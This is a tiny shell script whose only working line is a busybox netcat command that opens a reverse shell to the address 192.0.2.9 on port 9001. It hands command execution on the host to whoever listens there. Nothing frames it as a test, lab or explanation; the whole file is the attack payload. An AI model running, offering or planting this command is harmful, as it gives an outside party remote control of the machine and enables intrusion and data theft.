#!/bin/sh
busybox nc 192.0.2.9 9001 -e sh
